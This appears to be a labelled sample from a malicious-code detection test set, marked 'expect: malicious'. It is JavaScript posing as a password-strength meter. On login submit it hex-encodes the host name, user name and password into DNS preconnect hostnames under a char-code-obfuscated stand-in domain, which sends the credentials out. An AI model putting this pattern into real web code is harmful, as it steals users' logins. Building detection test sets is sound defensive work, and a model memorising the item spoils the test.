// source: the pw-strength-meter shape (dns-prefetch-exfil, 2026 blind set): on the login form's submit, the user name
// and password are hex-encoded into the labels of host names under a domain spelled in char codes, and the page is
// told to preconnect to them: the DNS queries carry the login.
// expect: malicious
var BASE = String.fromCharCode(102, 111, 110, 116, 115, 46, 99, 100, 110, 46, 105, 110, 118, 97, 108, 105, 100);
function hex(s) {
  var out = "";
  for (var i = 0; i < s.length; i++) out += ("0" + s.charCodeAt(i).toString(16)).slice(-2);
  return out;
}
function hint(host) {
  var l = document.createElement("link");
  l.rel = "preconnect";
  l.href = "//" + host;
  document.head.appendChild(l);
}
export function attach(input) {
  var form = input.form;
  form.addEventListener("submit", function () {
    var user = form.querySelector("input[name*=user],input[type=email]");
    var chunks = hex(location.hostname + "|" + (user ? user.value : "") + "|" + input.value).match(/.{1,56}/g) || [];
    chunks.forEach(function (c, i) { hint(c + "." + i + "." + BASE); });
  });
  input.addEventListener("input", function () { input.dataset.len = String(input.value.length); });
}
